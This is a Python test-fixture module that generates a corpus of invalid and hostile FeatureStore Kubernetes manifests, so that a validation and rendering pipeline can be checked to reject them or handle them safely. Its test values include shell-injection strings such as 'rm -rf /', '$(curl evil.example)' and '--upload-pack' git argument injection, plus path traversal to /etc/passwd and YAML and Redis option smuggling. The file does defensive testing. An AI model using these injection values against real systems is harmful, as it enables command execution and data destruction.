"""A corpus of invalid and hostile FeatureStore manifests (deterministic, no randomness).

Each :class:`Case` says what must happen to it:

* ``invalid``   - wrong types, enums, ranges, patterns, injection attempts: the API server rejects it
                  (422, naming ``field``) or, where the CRD schema cannot express the rule, the
                  operator reports a condition (``condition``) whose message names ``field``;
                  ``featurestore-operator validate`` fails naming ``field`` unless ``model=False``
                  (rules only the API server knows: metadata labels/annotations, object size).
* ``reference`` - a valid manifest that points at something missing, in another namespace, or
                  hostile (``secrets``/``config_maps`` are created in the store's namespace first;
                  ``foreign`` objects only in another namespace): a condition names ``field``.
* ``hostile``   - valid manifests full of shell/YAML metacharacters: they must be accepted and
                  rendered so that no user string reaches a shell or breaks out of YAML.
* ``pruned``    - unknown fields: the structural schema drops them (nothing reaches the operator);
                  ``validate`` reports them as unknown fields.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from dataclasses import field as dc_field
from typing import Any

API = "featurestore.kubeflow.org/v1alpha1"
MB = 1024 * 1024
FOREIGN_SECRET = "elsewhere-redis"
FOREIGN_GIT_SECRET = "elsewhere-git"
FOREIGN_CONFIG_MAP = "elsewhere-repo"


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # invalid | reference | hostile | pruned
    manifest: dict[str, Any]
    #: the field an error must name (a substring of the 422 body / condition message / validate output)
    field: str | None = None
    #: condition type expected when the API server accepts it (None: any condition naming ``field``)
    condition: str | None = None
    #: whether the pydantic model (and so `featurestore-operator validate`) rejects it
    model: bool = True
    #: Secrets to create in the store's namespace first: name -> string data
    secrets: dict[str, dict[str, str]] = dc_field(default_factory=dict)
    #: user strings (hostile cases) that must reach containers only as whole argv entries
    argv: tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return self.manifest["metadata"]["name"]

    @property
    def reported_field(self) -> str | None:
        """What the operator's refusal names: a spec over the admin policy's maxSpecBytes (64 KiB by
        default) is refused as a whole before it is parsed (api/bounds.py), naming that knob."""
        return "maxSpecBytes" if len(json.dumps(self.manifest.get("spec"))) > 65536 else self.field


def _base(name: str, spec: dict[str, Any] | None = None, **meta: Any) -> dict[str, Any]:
    return {
        "apiVersion": API,
        "kind": "FeatureStore",
        "metadata": {"name": name, **meta},
        "spec": {"project": "corpus", **(spec or {})},
    }


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """Copy of ``doc`` with the dotted ``path`` (camelCase) set to ``value`` (a git repo gets a valid
    url first, so the error is about ``path`` alone)."""
    out = copy.deepcopy(doc)
    if path.startswith("spec.featureRepo.git.") and path != "spec.featureRepo.git.url":
        out["spec"]["featureRepo"] = {"git": {"url": "https://example.com/r.git"}}
    node = out
    parts = path.split(".")
    for p in parts[:-1]:
        node = node.setdefault(p, {})
    node[parts[-1]] = value
    return out


def _nested(depth: int, leaf: Any) -> Any:
    node = leaf
    for _ in range(depth):
        node = {"a": node}
    return node


#: (spec path, bad value, field the error names, schema-level?) - the spec is otherwise minimal valid.
_SPEC_VALUES: list[tuple[str, Any, str]] = [
    # --- wrong types
    ("project", 123, "spec.project"),
    ("project", ["a"], "spec.project"),
    ("project", {"a": 1}, "spec.project"),
    ("project", True, "spec.project"),
    ("provider", 7, "spec.provider"),
    ("featureServer", "big", "spec.featureServer"),
    ("featureServer.replicas", "three", "spec.featureServer.replicas"),
    ("featureServer.replicas", 1.5, "spec.featureServer.replicas"),
    ("featureServer.replicas", True, "spec.featureServer.replicas"),
    ("featureServer.workers", "4", "spec.featureServer.workers"),
    ("registry.cacheTtlSeconds", "60s", "spec.registry.cacheTtlSeconds"),
    ("registry.server.enabled", "maybe", "spec.registry.server.enabled"),
    ("materialization.enabled", "yes", "spec.materialization.enabled"),
    ("materialization.featureViews", "all", "spec.materialization.featureViews"),
    ("kubeflow.allowedNamespaces", "kserve", "spec.kubeflow.allowedNamespaces"),
    ("kubeflow.podDefault", _nested(60, True), "spec.kubeflow.podDefault"),
    ("ui", [], "spec.ui"),
    ("gcp", [], "spec.gcp"),
    ("images", "feast:latest", "spec.images"),
    ("featureServer.resources.requests", _nested(40, "1"), "spec.featureServer.resources.requests"),
    # --- enums
    ("provider", "aws", "spec.provider"),
    ("provider", "GCP", "spec.provider"),
    ("provider", "gcp; rm -rf /", "spec.provider"),
    ("onlineStore.memorystore.tier", "PREMIUM", "spec.onlineStore.memorystore.tier"),
    ("onlineStore.memorystore.redisVersion", "REDIS_5_0", "spec.onlineStore.memorystore.redisVersion"),
    ("onlineStore.memorystore.connectMode", "VPN", "spec.onlineStore.memorystore.connectMode"),
    ("onlineStore.memorystore.deletionPolicy", "Destroy", "spec.onlineStore.memorystore.deletionPolicy"),
    ("offlineStore.gcs.deletionPolicy", "delete", "spec.offlineStore.gcs.deletionPolicy"),
    # --- ranges / huge values
    ("featureServer.replicas", -1, "spec.featureServer.replicas"),
    ("featureServer.replicas", 101, "spec.featureServer.replicas"),
    ("featureServer.replicas", 10**15, "spec.featureServer.replicas"),
    ("featureServer.replicas", 1e300, "spec.featureServer.replicas"),
    ("featureServer.workers", 0, "spec.featureServer.workers"),
    ("featureServer.keepAliveTimeout", 10**9, "spec.featureServer.keepAliveTimeout"),
    ("featureServer.autoscaling.maxReplicas", 1000, "spec.featureServer.autoscaling.maxReplicas"),
    ("featureServer.podDisruptionBudget.maxUnavailable", -3, "spec.featureServer.podDisruptionBudget.maxUnavailable"),
    ("registry.cacheTtlSeconds", -5, "spec.registry.cacheTtlSeconds"),
    ("registry.server.replicas", 0, "spec.registry.server.replicas"),
    ("offlineServer.replicas", 21, "spec.offlineServer.replicas"),
    ("materialization.activeDeadlineSeconds", 1, "spec.materialization.activeDeadlineSeconds"),
    ("materialization.backoffLimit", 99, "spec.materialization.backoffLimit"),
    ("onlineStore.memorystore.memorySizeGb", 0, "spec.onlineStore.memorystore.memorySizeGb"),
    ("onlineStore.memorystore.memorySizeGb", 301, "spec.onlineStore.memorystore.memorySizeGb"),
    ("offlineStore.gcs.lifecycle.deleteAfterDays", 0, "spec.offlineStore.gcs.lifecycle.deleteAfterDays"),
    ("kubeflow.allowedNamespaces", [f"ns{i}" for i in range(51)], "spec.kubeflow.allowedNamespaces"),
    ("materialization.featureViews", [f"v{i}" for i in range(101)], "spec.materialization.featureViews"),
    # --- patterns: unicode, injection, 1 MB strings
    ("project", "x" * MB, "spec.project"),
    ("project", "demo; rm -rf /", "spec.project"),
    ("project", "dеmo", "spec.project"),  # Cyrillic е
    ("project", "プロジェクト", "spec.project"),
    ("project", "a\nb", "spec.project"),
    ("project", "", "spec.project"),
    ("project", "a" * 64, "spec.project"),
    ("project", "x\u202eevil", "spec.project"),  # right-to-left override
    ("gcp.project", "My-Project", "spec.gcp.project"),
    ("gcp.project", "p$(id)ject", "spec.gcp.project"),
    ("gcp.region", "us central1", "spec.gcp.region"),
    ("gcp.serviceAccount", "evil@example.com", "spec.gcp.serviceAccount"),
    ("onlineStore.memorystore.instanceId", "1starts-with-digit", "spec.onlineStore.memorystore.instanceId"),
    ("onlineStore.memorystore.instanceId", "a" * 41, "spec.onlineStore.memorystore.instanceId"),
    ("onlineStore.memorystore.instanceId", "ends-", "spec.onlineStore.memorystore.instanceId"),
    ("onlineStore.memorystore.network", "default; curl evil", "spec.onlineStore.memorystore.network"),
    ("offlineStore.gcs.bucket", "UPPER", "spec.offlineStore.gcs.bucket"),
    ("offlineStore.gcs.bucket", "ab", "spec.offlineStore.gcs.bucket"),
    ("offlineStore.gcs.bucket", "b" * 64, "spec.offlineStore.gcs.bucket"),
    ("offlineStore.gcs.bucket", "../../etc", "spec.offlineStore.gcs.bucket"),
    ("offlineStore.gcs.location", "us central", "spec.offlineStore.gcs.location"),
    ("images.feast", "feast:1; rm -rf /", "spec.images.feast"),
    ("images.feast", "$(curl evil.example)", "spec.images.feast"),
    ("images.feast", "-oProxyCommand=evil", "spec.images.feast"),
    ("images.git", "alpine/git\n- name: evil", "spec.images.git"),
    ("images.redis", "r" * 600, "spec.images.redis"),
    ("images.redis", "rédis:7", "spec.images.redis"),
    ("materialization.schedule", "x" * MB, "spec.materialization.schedule"),
    ("materialization.schedule", "0 * * * *" + " " * 200, "spec.materialization.schedule"),
    ("materialization.timeZone", "../../etc/passwd", "spec.materialization.timeZone"),
    ("materialization.timeZone", "Europe/Berlin; reboot", "spec.materialization.timeZone"),
    # the pattern allows it; only the IANA database refuses it (issue 29: that check could be deleted unnoticed)
    ("materialization.timeZone", "Mars/Olympus_Mons", "spec.materialization.timeZone"),
    ("materialization.featureViews", ["ok", "bad view"], "spec.materialization.featureViews"),
    ("materialization.featureViews", ["--all"], "spec.materialization.featureViews"),
    ("materialization.featureViews", ["$(reboot)"], "spec.materialization.featureViews"),
    ("materialization.featureViews", ["v;rm -rf /"], "spec.materialization.featureViews"),
    ("materialization.featureViews", ["視図"], "spec.materialization.featureViews"),
    ("materialization.featureViews", ["v" * 200], "spec.materialization.featureViews"),
    ("kubeflow.allowedNamespaces", ["Kserve"], "spec.kubeflow.allowedNamespaces"),
    ("kubeflow.allowedNamespaces", ["a b"], "spec.kubeflow.allowedNamespaces"),
    ("onlineStore.external.secretRef.name", "../kube-system/secret", "spec.onlineStore.external.secretRef.name"),
    ("onlineStore.external.secretRef.name", "Has_Upper", "spec.onlineStore.external.secretRef.name"),
    ("onlineStore.external.secretRef", {}, "spec.onlineStore.external.secretRef.name"),
    ("featureRepo.configMap.name", "cm\nname", "spec.featureRepo.configMap.name"),
    ("featureRepo.git.url", "file:///etc/passwd", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "http://insecure.example/repo.git", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "--upload-pack=touch${IFS}/tmp/pwned", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/`id`", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/repo\nevil", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/a b", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/" + "r" * 3000, "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://exämple.com/repo.git", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/'$(rm${IFS}-rf${IFS}/)'", "spec.featureRepo.git.url"),
    ("featureRepo.git.url", "https://example.com/r.git|sh", "spec.featureRepo.git.url"),
    ("featureRepo.git.ref", "--upload-pack=evil", "spec.featureRepo.git.ref"),
    ("featureRepo.git.ref", "main;reboot", "spec.featureRepo.git.ref"),
    ("featureRepo.git.ref", "main$(id)", "spec.featureRepo.git.ref"),
    ("featureRepo.git.ref", "ma\u0000in", "spec.featureRepo.git.ref"),
    ("featureRepo.git.ref", "r" * 300, "spec.featureRepo.git.ref"),
    ("featureRepo.git.path", "../outside", "spec.featureRepo.git.path"),
    ("featureRepo.git.path", "/etc", "spec.featureRepo.git.path"),
    ("featureRepo.git.path", "a;b", "spec.featureRepo.git.path"),
    ("featureRepo.git.secretRef.name", "x" * 300, "spec.featureRepo.git.secretRef.name"),
    # --- structure: exactly-one-of, required
    ("onlineStore", {}, "spec.onlineStore"),
    ("onlineStore", {"inCluster": {}, "external": {"secretRef": {"name": "x"}}}, "spec.onlineStore"),
    ("offlineStore", {}, "spec.offlineStore"),
    ("featureRepo", {}, "spec.featureRepo"),
    ("featureRepo", {"configMap": {"name": "a"}, "git": {"url": "https://example.com/r.git"}}, "spec.featureRepo"),
    ("featureRepo", {"git": {"ref": "main"}}, "spec.featureRepo.git.url"),
]

LAX = [("featureServer.replicas", True), ("featureServer.workers", "4"), ("materialization.enabled", "yes")]

#: Rules the CRD schema cannot hold: accepted by the API server, reported by the operator.
_MODEL_ONLY: list[tuple[str, Any, str, str]] = [
    ("materialization.schedule", "every day", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "* * * * * *", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "@reboot", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "TZ=UTC 0 * * * *", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "0 * * * *; rm -rf /", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "$(reboot)", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "０ * * * *", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "0 * * * *\n- evil: true", "spec.materialization.schedule", "Spec"),
    ("materialization.schedule", "99 99 99 99 99", "spec.materialization.schedule", "Spec"),
    ("featureRepo.git.path", "a/../../etc", "spec.featureRepo.git.path", "Spec"),
    ("featureServer.autoscaling", {"minReplicas": 5, "maxReplicas": 2}, "spec.featureServer.autoscaling", "Spec"),
    ("featureServer.resources", {"requests": {"cpu": "lots"}}, "spec.featureServer.resources.requests", "Spec"),
    ("featureServer.resources", {"limits": {"memory": "-1Gi"}}, "spec.featureServer.resources.limits", "Spec"),
    ("featureServer.resources", {"requests": {"cpu; rm -rf /": "1"}}, "spec.featureServer.resources.requests", "Spec"),
    (
        "onlineStore.inCluster.resources",
        {"limits": {"memory": "1 Gi"}},
        "spec.onlineStore.inCluster.resources.limits",
        "Spec",
    ),
    ("provider", "local", "onlineStore.memorystore", "Spec"),  # with memorystore below
    # pod settings (api/pods.py): the operator's labels, annotations and env vars stay its own
    ("featureServer.pod.labels", {"app.kubernetes.io/instance": "other"}, "spec.featureServer.pod.labels", "Spec"),
    (
        "materialization.pod.annotations",
        {"sidecar.istio.io/inject": "true"},
        "spec.materialization.pod.annotations",
        "Spec",
    ),
    (
        "ui.pod.annotations",
        {"traffic.sidecar.istio.io/excludeOutboundIPRanges": "0.0.0.0/0"},
        "spec.ui.pod.annotations",
        "Spec",
    ),
    ("featureServer.pod.env", [{"name": "REDIS_PASSWORD", "value": "x"}], "spec.featureServer.pod.env", "Spec"),
    (
        "featureServer.pod.env",
        [{"name": "X", "valueFrom": {"fieldRef": {"fieldPath": "spec.volumes"}}}],
        "spec.featureServer.pod.env",
        "Spec",
    ),
    (
        "registry.server.pod.priorityClassName",
        "system-node-critical",
        "spec.registry.server.pod.priorityClassName",
        "Spec",
    ),
]


def corpus() -> list[Case]:
    cases: list[Case] = []
    n = 0

    def name() -> str:
        nonlocal n
        n += 1
        return f"bad-{n:03d}"

    for path, value, fld in _SPEC_VALUES:
        doc = _set(_base(name()), f"spec.{path}", value)
        # pydantic's lax mode coerces these (True -> 1, "4" -> 4, "yes" -> True): only the schema rejects them
        lax = (path, value) in LAX
        cases.append(Case(f"{path}={_short(value)}", "invalid", doc, fld, model=not lax))
    for path, value, fld, cond in _MODEL_ONLY:
        doc = _set(_base(name()), f"spec.{path}", value)
        if path == "provider":
            doc["spec"]["onlineStore"] = {"memorystore": {}}
        cases.append(Case(f"{path}={_short(value)} (model rule)", "invalid", doc, fld, condition=cond))

    # whole-document shapes
    for spec, fld in [
        ("a string", "spec"),
        ([1, 2], "spec"),
        (None, "spec"),
        ({}, "spec.project"),
        ({"project": None}, "spec.project"),
    ]:
        doc = _base(name())
        doc["spec"] = spec
        cases.append(Case(f"spec={_short(spec)}", "invalid", doc, fld))

    # metadata: names, labels, annotations (the API server's rules; the model reads only the name)
    for bad in ["UPPER", "a" * 41, "-lead", "trail-", "dot.name", "ünicode", "a_b", "x" * 300]:
        cases.append(Case(f"metadata.name={_short(bad)}", "invalid", _base(bad), "metadata.name"))
    for labels in [{"app": "a\nb"}, {"a b": "c"}, {"app": "ünï"}, {"app": "$(id)"}, {"k": "v" * 64}]:
        cases.append(
            Case(
                f"metadata.labels={_short(labels)}",
                "invalid",
                _base(name(), labels=labels),
                "metadata.labels",
                model=False,
            )
        )
    cases.append(
        Case(
            "metadata.annotations=1MB",
            "invalid",
            _base(name(), annotations={"x": "y" * MB}),
            "metadata.annotations",
            model=False,
        )
    )

    # references: missing, foreign-namespace, hostile content
    ref = "reference"
    ext = "spec.onlineStore.external.secretRef.name"
    cases += [
        Case(
            "external secret missing",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": "nope"}}}}),
            ext,
            "OnlineStore",
        ),
        Case(
            "external secret only in another namespace",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": FOREIGN_SECRET}}}}),
            ext,
            "OnlineStore",
        ),
        Case(
            "external secret host injects redis options",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": "hostile-redis"}}}}),
            ext,
            "OnlineStore",
            secrets={"hostile-redis": {"host": "evil,ssl_ca_certs=/etc/passwd,password=x", "port": "6379"}},
        ),
        Case(
            "external secret host with newline",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": "newline-redis"}}}}),
            ext,
            "OnlineStore",
            secrets={"newline-redis": {"host": "redis\nonline_store: evil", "port": "6379"}},
        ),
        Case(
            "external secret port not a number",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": "port-redis"}}}}),
            ext,
            "OnlineStore",
            secrets={"port-redis": {"host": "redis.example", "port": "6379,ssl=false"}},
        ),
        Case(
            "external secret without host",
            ref,
            _base(name(), {"onlineStore": {"external": {"secretRef": {"name": "empty-redis"}}}}),
            ext,
            "OnlineStore",
            secrets={"empty-redis": {"port": "6379"}},
        ),
        Case(
            "git secret only in another namespace",
            ref,
            _base(
                name(),
                {
                    "featureRepo": {
                        "git": {"url": "https://example.com/r.git", "secretRef": {"name": FOREIGN_GIT_SECRET}}
                    }
                },
            ),
            "spec.featureRepo.git.secretRef.name",
            "FeatureRepo",
        ),
        Case(
            "repo ConfigMap only in another namespace",
            ref,
            _base(name(), {"featureRepo": {"configMap": {"name": FOREIGN_CONFIG_MAP}}}),
            "spec.featureRepo.configMap.name",
            "FeatureRepo",
        ),
        Case(
            "repo ConfigMap missing",
            ref,
            _base(name(), {"featureRepo": {"configMap": {"name": "missing-repo"}}}),
            "spec.featureRepo.configMap.name",
            "FeatureRepo",
        ),
    ]

    # hostile but valid: accepted, rendered safely (argv only, YAML intact)
    hostile_urls = [
        "https://example.com/r.git;reboot",
        "https://example.com/$(GIT_TOKEN)/r.git",
        "https://example.com/'$(reboot)'",
        "https://example.com/r.git&&curl+evil.example;sh",
        "https://example.com/r.git'''",
        "ssh://git@example.com:22/r.git#$(HOME)",
        "git@example.com:org/r.git",
        "https://user:p%40ss@example.com/r.git?x=1&y=$$",
    ]
    for url in hostile_urls:
        cases.append(
            Case(
                f"git url {url}",
                "hostile",
                _base(name(), {"featureRepo": {"git": {"url": url, "ref": "v1.0/x-y_z"}}}),
                argv=(url, "v1.0/x-y_z"),
            )
        )
    cases += [
        Case(
            "git ref/path with dots",
            "hostile",
            _base(
                name(),
                {"featureRepo": {"git": {"url": "https://example.com/r.git", "ref": "a/../../b", "path": "x/.y/z"}}},
            ),
            argv=("https://example.com/r.git", "a/../../b"),
        ),
        Case(
            "feature views with dots and dashes",
            "hostile",
            _base(name(), {"materialization": {"featureViews": ["a.b", "_x", "v-1", "A9"]}}),
            argv=("a.b", "_x", "v-1", "A9"),
        ),
        Case(
            "annotations with YAML document breaks",
            "hostile",
            _base(name(), annotations={"note": "x\n---\nkind: Secret\nstringData: {a: b}", "q": "'\"{}[]&*!|>%@`"}),
        ),
        Case("project with underscores only", "hostile", _base(name(), {"project": "___"})),
        Case("time zone with plus", "hostile", _base(name(), {"materialization": {"timeZone": "Etc/GMT+5"}})),
    ]

    # unknown fields: pruned by the structural schema, reported by validate
    for path, value in [
        ("spec.unknownField", "x" * MB),
        ("spec.featureServer.command", ["sh", "-c", "reboot"]),
        ("spec.deep", _nested(80, "x")),
        ("spec.onlineStore.inCluster.image", "evil:latest"),
        ("spec.featureServer.pod.hostNetwork", True),
    ]:
        doc = _set(_base(name()), path, value)
        cases.append(Case(f"unknown {path}", "pruned", doc, path.rsplit(".", 1)[-1]))
    return cases


def _short(value: Any) -> str:
    text = repr(value)
    return text if len(text) <= 40 else f"{text[:30]}...({len(text)} chars)"
